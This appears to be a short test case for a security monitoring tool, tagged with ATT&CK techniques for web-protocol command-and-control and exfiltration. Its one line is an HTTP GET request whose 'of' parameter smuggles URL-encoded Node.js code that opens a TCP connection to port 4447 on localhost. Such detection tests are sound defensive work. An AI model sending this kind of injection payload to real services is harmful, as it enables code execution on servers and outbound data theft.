# title: a service connects elsewhere itself
# attack: T1071.001 T1041
# workload: node
# through: http
# shows: connect tcp/4447 to 127.0.0.1 by node
GET http://127.0.0.1:3000/total?of=(require(%27net%27).connect(4447%2C%27127.0.0.1%27).on(%27error%27%2C()%3D%3E0)%2C1)
